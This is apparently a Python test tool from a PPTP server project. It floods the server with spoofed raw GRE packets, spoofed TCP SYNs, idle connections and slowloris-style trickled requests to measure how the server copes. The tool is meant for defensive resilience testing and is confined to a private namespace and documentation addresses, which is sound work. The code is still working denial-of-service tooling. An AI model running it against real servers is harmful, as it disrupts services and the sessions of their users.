"""Hostile traffic at a PPTP server, for the flood tests and measurements of issue 10.

    python3 -m fastpptp.tools.flood gre SERVER --source 192.0.2.19 --spoof 192.0.2.100-199 \\
        --live-call 1234 --seconds 10 [--pps N] [--count N]
    python3 -m fastpptp.tools.flood syn SERVER --spoof 192.0.2.100-199 --seconds 10
    python3 -m fastpptp.tools.flood idle SERVER --connections 60 --seconds 30
    python3 -m fastpptp.tools.flood loris SERVER --connections 60 --interval 2 --seconds 40

Each prints one JSON line with what it sent (and, for the TCP floods, what the server did
to the connections) and exits.  Every flood is bounded by ``--seconds`` and, for the packet
floods, ``--count``; run it only inside a network namespace of your own (the tests do), with
addresses from the documentation or benchmarking ranges.

* ``gre``: raw IPv4 + enhanced GRE (RFC 2637 §4.1) sent with IP_HDRINCL, cycling through a
  prepared set of packets: a third each of (1) random call IDs from ``--source``, (2) the
  live call IDs given (``--live-call``) from a *wrong* source (``--source`` or a spoofed
  address from ``--spoof``), with random sequence and acknowledgment numbers, (3) malformed
  headers (GRE version 0, wrong protocol type, key present but no sequence number with
  data, truncated, a Payload Length beyond the packet).  None of them comes from a live
  call's real peer, so a server must drop every one and keep its sessions.
* ``syn``: TCP SYNs to port 1723 from spoofed sources (``--spoof``), random ports and
  sequence numbers, never completed: the server's SYN queue fills with half-open requests
  (its SYN-ACKs go to hosts that do not exist).
* ``idle``: full TCP connections to port 1723 that never send a byte (the PAC's
  Start-Control-Connection-Request wait must reap them).
* ``loris``: full TCP connections that send a valid Start-Control-Connection-Request one
  octet every ``--interval`` seconds, so it never finishes in time (the control
  connection's mid-message stall timeout must reap them).

For the TCP floods the JSON reports how many connections the server closed and after how
long (``closed``, ``closed_after_s`` percentiles), how many were refused at once, and how
many were still open at the end.
"""
from __future__ import annotations

import argparse
import ipaddress
import json
import random
import selectors
import socket
import struct
import sys
import time
from collections.abc import Sequence

GRE_PROTO_PPP = 0x880B
PPTP_PORT = 1723


def address_range(spec: str) -> list[str]:
    """``A-B`` (last octets or full addresses), ``CIDR`` or one address -> addresses; several
    such specs separated by commas -> all their addresses, in order."""
    if "," in spec:
        return [a for part in spec.split(",") if part.strip() for a in address_range(part.strip())]
    if "/" in spec:
        net = ipaddress.IPv4Network(spec, strict=False)
        return [str(a) for a in net.hosts()]
    if "-" in spec:
        lo, hi = spec.split("-", 1)
        first = ipaddress.IPv4Address(lo)
        last = (ipaddress.IPv4Address(hi) if "." in hi
                else ipaddress.IPv4Address((int(first) & ~0xFF) | int(hi)))
        if int(last) < int(first) or int(last) - int(first) > 65535:
            raise ValueError(f"bad range {spec!r}")
        return [str(ipaddress.IPv4Address(i)) for i in range(int(first), int(last) + 1)]
    return [str(ipaddress.IPv4Address(spec))]


def ip_checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of ``data`` (an odd length is padded with a zero)."""
    if len(data) & 1:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(src: str, dst: str, proto: int, payload: bytes) -> bytes:
    """An IPv4 header (no options, DF clear, TTL 64) + payload; the kernel fills the ID."""
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, proto, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    return hdr[:10] + struct.pack("!H", ip_checksum(hdr)) + hdr[12:] + payload


def gre(call_id: int, payload: bytes, seq: int | None, ack: int | None, *, version: int = 1,
        proto: int = GRE_PROTO_PPP, length: int | None = None) -> bytes:
    """Enhanced GRE (RFC 2637 §4.1): K always, S with ``seq``, A with ``ack``."""
    flags = 0x20 | (0x10 if seq is not None else 0)
    ver = version | (0x80 if ack is not None else 0)
    out = struct.pack("!BBHHH", flags, ver, proto, len(payload) if length is None else length, call_id)
    if seq is not None:
        out += struct.pack("!I", seq)
    if ack is not None:
        out += struct.pack("!I", ack)
    return out + payload


def gre_packets(server: str, source: str, spoof: Sequence[str], live: Sequence[int],
                rng: random.Random, n: int = 3000) -> list[bytes]:
    """The prepared flood (module doc): a third random call IDs, a third live call IDs from
    wrong sources, a third malformed; PPP payloads of 40-200 random octets."""
    wrong = [source, *spoof]
    out: list[bytes] = []
    for i in range(n):
        body = b"\xff\x03\x00\xfd" + rng.randbytes(rng.randint(36, 196))   # "compressed data"
        kind = i % 3
        seq, ack = rng.getrandbits(32), rng.getrandbits(32) if rng.random() < 0.5 else None
        if kind == 0 or not live:
            pkt = ipv4(source, server, 47, gre(rng.getrandbits(16), body, seq, ack))
        elif kind == 1:
            pkt = ipv4(rng.choice(wrong), server, 47, gre(rng.choice(live), body, seq, ack))
        else:
            call = rng.choice(live) if live else rng.getrandbits(16)
            src = rng.choice(wrong)
            bad = rng.randrange(5)
            if bad == 0:
                g = gre(call, body, seq, ack, version=0)
            elif bad == 1:
                g = gre(call, body, seq, ack, proto=0x0800)
            elif bad == 2:
                g = gre(call, body, None, ack)
            elif bad == 3:
                g = gre(call, body, seq, ack)[:rng.randint(1, 11)]
            else:
                g = gre(call, body, seq, ack, length=len(body) + rng.randint(1, 2000))
            pkt = ipv4(src, server, 47, g)
        out.append(pkt)
    return out


def syn_packets(server: str, spoof: Sequence[str], rng: random.Random, n: int = 65536) -> list[bytes]:
    """TCP SYNs (MSS option) from spoofed sources to port 1723, each with its own port/ISN.
    Many distinct ones: a SYN repeating the 4-tuple of a pending request only makes the
    kernel resend its SYN-ACK, so a small set cycled would never fill the SYN queue."""
    out = []
    for _ in range(n):
        src = rng.choice(spoof)
        sport, isn = rng.randint(1024, 65535), rng.getrandbits(32)
        opts = struct.pack("!BBH", 2, 4, 1460)
        tcp = struct.pack("!HHIIBBHHH", sport, PPTP_PORT, isn, 0, (5 + 1) << 4, 0x02, 64240, 0, 0) + opts
        pseudo = socket.inet_aton(src) + socket.inet_aton(server) + struct.pack("!BBH", 0, 6, len(tcp))
        csum = ip_checksum(pseudo + tcp)
        tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
        out.append(ipv4(src, server, 6, tcp))
    return out


def send_raw(packets: Sequence[bytes], dst: str, seconds: float, count: int, pps: float) -> dict:
    """Send ``packets`` round-robin on an IP_HDRINCL socket for at most ``seconds`` and
    ``count`` packets, paced at ``pps`` (0: as fast as this process can)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sent = errors = 0
    t0 = time.monotonic()
    end = t0 + seconds
    n = len(packets)
    batch = 64
    try:
        while sent < count:
            now = time.monotonic()
            if now >= end:
                break
            if pps > 0 and sent >= (now - t0) * pps:
                time.sleep(min(0.002, end - now))
                continue
            for _ in range(min(batch, count - sent)):
                try:
                    s.sendto(packets[sent % n], (dst, 0))
                except OSError:          # ENOBUFS under load: counted, the flood goes on
                    errors += 1
                sent += 1
    finally:
        s.close()
    took = time.monotonic() - t0
    return {"sent": sent, "send_errors": errors, "seconds": round(took, 3),
            "pps": round(sent / took) if took else 0}


def sccrq() -> bytes:
    """A valid Start-Control-Connection-Request (RFC 2637 §2.1), 156 octets."""
    from ..pptp import messages as m
    return m.SCCRQ().encode()


def hold_connections(server: str, port: int, sources: Sequence[str], connections: int,
                     seconds: float, interval: float, trickle: bool) -> dict:
    """Open ``connections`` TCP connections (round-robin over ``sources``) and hold them for
    ``seconds``: silent (``idle``), or sending an SCCRQ one octet per ``interval`` s
    (``loris``); note when and how the server ends each."""
    _raise_nofile(connections + 64)
    sel = selectors.DefaultSelector()
    msg = sccrq()
    t0 = time.monotonic()
    opened: dict[socket.socket, dict] = {}
    refused = connect_errors = 0
    for i in range(connections):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if sources:
            s.bind((sources[i % len(sources)], 0))
        s.settimeout(5)
        try:
            s.connect((server, port))
        except OSError:
            connect_errors += 1
            s.close()
            continue
        s.setblocking(False)
        opened[s] = {"at": time.monotonic(), "sent": 0, "closed_at": None}
        sel.register(s, selectors.EVENT_READ)
    end = t0 + seconds
    next_byte = time.monotonic()
    while time.monotonic() < end and any(st["closed_at"] is None for st in opened.values()):
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            assert isinstance(s, socket.socket)
            st = opened[s]
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                st["closed_at"] = time.monotonic()
                # closed before we sent a byte: refused by admission (closed at once)
                if st["closed_at"] - st["at"] < 0.5:
                    refused += 1
                sel.unregister(s)
        if trickle and time.monotonic() >= next_byte:
            next_byte += interval
            for s, st in opened.items():
                if st["closed_at"] is None and st["sent"] < len(msg) - 1:    # never the last
                    try:
                        s.send(msg[st["sent"]:st["sent"] + 1])
                        st["sent"] += 1
                    except OSError:
                        pass
    lifetimes = sorted(st["closed_at"] - st["at"] for st in opened.values() if st["closed_at"] is not None)
    still_open = sum(1 for st in opened.values() if st["closed_at"] is None)
    for s in opened:
        s.close()
    sel.close()

    def pct(q: float) -> float | None:
        return round(lifetimes[min(len(lifetimes) - 1, int(q * len(lifetimes)))], 2) if lifetimes else None

    return {"opened": len(opened), "connect_errors": connect_errors, "refused_at_once": refused,
            "closed": len(lifetimes), "still_open": still_open,
            "closed_after_s": {"min": pct(0), "p50": pct(0.5), "max": pct(1.0)},
            "bytes_sent_max": max((st["sent"] for st in opened.values()), default=0),
            "seconds": round(time.monotonic() - t0, 2)}


def _raise_nofile(need: int) -> None:
    """One fd per held connection: raise the soft RLIMIT_NOFILE towards ``need`` (the default
    soft limit, 1024, is below what a flood at 1 000 live sessions holds)."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < need:
        want = need if hard == resource.RLIM_INFINITY else min(need, hard)
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, want), hard))
        except (ValueError, OSError):
            pass


def main(argv: Sequence[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python3 -m fastpptp.tools.flood", description=__doc__.split("\n")[0])
    p.add_argument("kind", choices=("gre", "syn", "idle", "loris"))
    p.add_argument("server")
    p.add_argument("--source", help="our own address (gre: the source of random-call-ID packets)")
    p.add_argument("--spoof", default="", help="spoofed source addresses: A-B, CIDR or one address; several, comma-separated")
    p.add_argument("--live-call", type=int, action="append", default=[], help="gre: a live call ID")
    p.add_argument("--live-calls", default="", help="gre: live call IDs, comma-separated (many sessions)")
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--count", type=int, default=50_000_000, help="packet floods: at most this many")
    p.add_argument("--pps", type=float, default=0.0, help="packet floods: pace (0: flat out)")
    p.add_argument("--connections", type=int, default=50)
    p.add_argument("--interval", type=float, default=2.0, help="loris: seconds between octets")
    p.add_argument("--port", type=int, default=PPTP_PORT)
    p.add_argument("--seed", type=int, default=10)
    a = p.parse_args(argv)
    rng = random.Random(a.seed)
    spoof = address_range(a.spoof) if a.spoof else []
    if a.kind == "gre":
        if not a.source:
            p.error("gre needs --source")
        live = a.live_call + [int(x) for x in a.live_calls.split(",") if x.strip()]
        pkts = gre_packets(a.server, a.source, spoof, live, rng)
        out = send_raw(pkts, a.server, a.seconds, a.count, a.pps)
    elif a.kind == "syn":
        if not spoof:
            p.error("syn needs --spoof")
        out = send_raw(syn_packets(a.server, spoof, rng), a.server, a.seconds, a.count, a.pps)
    else:
        sources = [a.source] if a.source else spoof
        out = hold_connections(a.server, a.port, sources, a.connections, a.seconds, a.interval,
                               trickle=a.kind == "loris")
    out["kind"] = a.kind
    print(json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
